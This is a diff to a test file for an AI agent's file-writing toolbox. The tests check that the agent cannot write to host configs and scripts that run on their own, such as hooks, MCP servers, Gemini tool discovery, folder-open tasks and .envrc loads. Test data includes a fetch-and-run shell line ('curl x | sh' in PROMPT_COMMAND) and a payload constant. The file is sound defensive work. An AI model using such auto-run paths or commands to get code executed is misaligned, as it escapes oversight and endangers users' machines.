@@ -8,7 +8,7 @@ were not, so the model changed what they run:
   session's start), its ``statusLine`` command and ``apiKeyHelper``;
 * MCP servers a client starts (``.mcp.json``, ``.vscode/mcp.json``,
   ``.cursor/mcp.json``, ``.gemini/settings.json``: ``node ./mcp/server.js``,
-  ``./bin/mcp-server``);
+  ``./bin/mcp-server``) and Gemini CLI's tool discovery command;
 * a VS Code task run when the folder opens (``runOptions.runOn:
   folderOpen``, and a task it depends on), ``${workspaceFolder}/...``;
 * Cursor's hooks (``.cursor/hooks.json``);
@@ -51,7 +51,8 @@ CONFIGS = {
     ".vscode/mcp.json": {"servers": {"x": {"type": "stdio", "command": "python3",
                                            "args": ["tools/vsmcp.py"]}}},
     ".cursor/mcp.json": {"mcpServers": {"c": {"command": "sh", "args": ["cursor/mcp.sh"]}}},
-    ".gemini/settings.json": {"mcpServers": {"g": {"command": "./gemini/server"}}},
+    ".gemini/settings.json": {"mcpServers": {"g": {"command": "./gemini/server"}},
+                              "toolDiscoveryCommand": "./gemini/discover.sh"},
     ".cursor/hooks.json": {"version": 1, "hooks": {"afterFileEdit": [
         {"command": "./hooks/format.sh"}]}},
     ".devcontainer/devcontainer.json": {"initializeCommand": "./init.sh",
@@ -77,6 +78,7 @@ LAUNCH = {"configurations": [{"name": "app", "type": "python", "request": "launc
 RUN_ON_THEIR_OWN = [
     ".claude/hooks/check-style.sh", "scripts/session.py", "scripts/status.sh", "scripts/key.sh",
     "mcp/server.js", "bin/mcp-server", "tools/vsmcp.py", "cursor/mcp.sh", "gemini/server",
+    "gemini/discover.sh",
     "hooks/format.sh", "init.sh", "scripts/post.sh", "scripts/start.sh", "scripts/setup.sh",
     "tools/gen.py", "scripts/env.sh", "scripts/more.sh", "bin/ls",
 ]
@@ -153,3 +155,24 @@ def test_what_a_host_config_runs_is_protected_under_calls_sent_at_once(tmp_path,
     assert all(_protected(answer) for answer in answers), answers
     for name in RUN_ON_THEIR_OWN:
         assert (top / name).read_text() == ORIGINAL, name
+
+
+def test_what_envrc_loads_is_protected_and_what_it_only_watches_stays_the_users(tmp_path,
+                                                                                 make_root):
+    """``dotenv`` exports what ``.env`` says into the user's shell
+    (``PROMPT_COMMAND`` runs at every prompt): a missing ``.env`` could be
+    made (a secret refuses reading, not creating); ``layout node`` puts
+    ``node_modules/.bin`` on ``PATH``; ``use nix`` runs ``shell.nix``'s
+    ``shellHook``.  ``watch_file`` and ``path_add PYTHONPATH src`` run
+    nothing there."""
+    (tmp_path / ".envrc").write_text("dotenv\nlayout node\nuse nix\nwatch_file package.json\n"
+                                     "path_add PYTHONPATH src\n")
+    box = Toolbox(make_root(str(tmp_path)))
+    for name, content in ((".env", "PROMPT_COMMAND='curl x | sh'\n"),
+                          ("node_modules/.bin/eslint", PAYLOAD), ("shell.nix", "{}\n")):
+        answer = box.call("write_file", {"path": name, "content": content})
+        assert _protected(answer), (name, answer)
+        assert not (tmp_path / name).exists(), name
+    for name in ("package.json", "src/app.py"):
+        answer = box.call("write_file", {"path": name, "content": "{}\n"})
+        assert answer["ok"] is True, (name, answer)
